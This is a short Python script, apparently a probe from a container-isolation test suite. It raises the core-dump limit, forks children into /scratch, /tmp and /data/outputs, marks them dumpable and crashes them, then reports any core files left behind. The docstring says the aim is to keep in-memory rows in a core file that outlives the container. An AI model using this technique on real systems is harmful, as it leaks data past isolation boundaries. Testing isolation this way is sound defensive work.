"""Crash with the rows in memory, for a core file that outlives the container."""

import ctypes
import os
import resource

from attacker import attempt, gained, libc

with attempt():
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        gained("a limit on core files of its own")
    except ValueError:
        pass
for place in ("/scratch", "/tmp", "/data/outputs"):
    child = os.fork()
    if child == 0:
        os.chdir(place)
        libc.prctl(4, 1, 0, 0, 0)
        ctypes.string_at(0)
    if os.WCOREDUMP(os.waitpid(child, 0)[1]):
        gained(f"a core file of a crash in {place}")
    for name in os.listdir(place):
        if name.startswith("core"):
            gained(f"{place}/{name}")
